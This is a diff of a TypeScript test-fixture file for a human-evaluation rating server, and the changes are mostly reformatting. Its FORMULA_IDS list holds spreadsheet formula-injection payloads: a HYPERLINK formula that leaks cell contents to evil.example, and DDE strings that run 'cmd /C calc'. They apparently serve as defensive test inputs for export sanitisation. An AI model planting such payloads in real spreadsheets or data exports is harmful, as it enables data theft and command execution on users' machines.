@@ -17,8 +17,8 @@ export const HOSTILE_TEXTS = [
 export const FORMULA_IDS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
   "+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
 ] as const;
@@ -34,7 +34,7 @@ export interface Fixture {
 }
 
 function writeJsonl(file: string, rows: unknown[]): void {
-  writeFileSync(file, rows.map((r) => JSON.stringify(r)).join('\n') + '\n');
+  writeFileSync(file, `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`);
 }
 
 export interface FixtureOptions {
@@ -62,13 +62,20 @@ export function ratingFixture(count = 3, options: FixtureOptions = {}): Fixture 
   const responses: Record<string, Record<string, string>> = { echo: {}, markup: {} };
   for (const [i, instruction] of instructions.entries()) {
     (responses.echo as Record<string, string>)[instruction.id] = instruction.instances[0]!.output;
-    (responses.markup as Record<string, string>)[instruction.id] = text(`response ${i} ${HOSTILE_TEXTS[(i + 2) % HOSTILE_TEXTS.length]}`, i, 'markup');
+    (responses.markup as Record<string, string>)[instruction.id] = text(
+      `response ${i} ${HOSTILE_TEXTS[(i + 2) % HOSTILE_TEXTS.length]}`,
+      i,
+      'markup',
+    );
   }
   const instructionsFile = join(dir, 'instructions.jsonl');
   writeJsonl(instructionsFile, instructions);
   const runs = Object.entries(responses).map(([system, byId]) => {
     const file = join(dir, `${system}.jsonl`);
-    writeJsonl(file, Object.entries(byId).map(([id, response]) => ({ id, response })));
+    writeJsonl(
+      file,
+      Object.entries(byId).map(([id, response]) => ({ id, response })),
+    );
     return `${system}=${file}`;
   });
   return { dir, instructionsFile, runs, responses, instructionIds: instructions.map((i) => i.id) };
@@ -76,5 +83,13 @@ export function ratingFixture(count = 3, options: FixtureOptions = {}): Fixture 
 
 /** Serve the fixture's runs from `db` on 127.0.0.1, on a free port. */
 export function serveFixture(fixture: Fixture, db: string, bodyLimitBytes = 16_384): Promise<RatingServer> {
-  return serveHumanEval({ db, runs: fixture.runs, instructions: fixture.instructionsFile, host: '127.0.0.1', port: 0, bodyLimitBytes, sessionHours: 1 });
+  return serveHumanEval({
+    db,
+    runs: fixture.runs,
+    instructions: fixture.instructionsFile,
+    host: '127.0.0.1',
+    port: 0,
+    bodyLimitBytes,
+    sessionHours: 1,
+  });
 }
